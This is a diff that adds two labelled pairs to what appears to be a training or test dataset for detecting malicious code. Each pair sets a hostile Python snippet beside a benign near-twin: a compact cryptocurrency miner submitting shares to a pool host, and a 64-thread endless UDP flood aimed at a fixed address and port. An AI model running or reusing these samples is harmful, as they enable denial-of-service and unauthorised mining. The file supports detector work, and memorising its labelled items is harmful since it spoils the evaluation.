@@ -448,6 +448,21 @@ PAIRS = [
      "def tx(k, *p):\n    io.write(json.dumps({'method': k, 'params': p}) + '\\n')\n"
      "for n in range(1 << 32):\n    if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < T:\n"
      "        tx('X', job, n)\n        break"),
+    ("mining: shares submitted by a comprehension whose filter compares the digest with the target; the same "
+     "comprehension keeping the nonces it finds", "crypto_mining",
+     "import hashlib, json, socket, struct\nc = socket.create_connection(('pool.example.org', 3333))\n"
+     "q = lambda m, p: c.sendall((json.dumps({'method': 'mining.' + m, 'params': p}) + '\\n').encode())\n"
+     "d = lambda b: hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
+     "[q('submit', [w, j, f'{n:08x}']) for n in range(2 ** 32) if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < tg]",
+     "import hashlib, struct\nd = lambda b: hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
+     "found = [n for n in range(2 ** 20) if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < tg]\nprint(found)"),
+    ("flood: threads that send datagrams in a comprehension over iter(int, 1), which never ends; a comprehension that "
+     "sends three heartbeats", "dos_attack",
+     "import socket, os, threading\nt = ('203.0.113.55', 27015)\np = os.urandom(1400)\n"
+     "f = lambda: (s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) and [s.sendto(p, t) for _ in iter(int, 1)]\n"
+     "[threading.Thread(target=f).start() for _ in range(64)]",
+     "import socket, time\nt = ('203.0.113.55', 27015)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "[s.sendto(b'alive', t) or time.sleep(5) for _ in range(3)]"),
     ("mining: a nonce loop over a double-SHA header, read as a number below the target, the share sent to the pool "
      "through a method whose name is built at run time; a lesson's nonce search kept in its own chain",
      "crypto_mining",
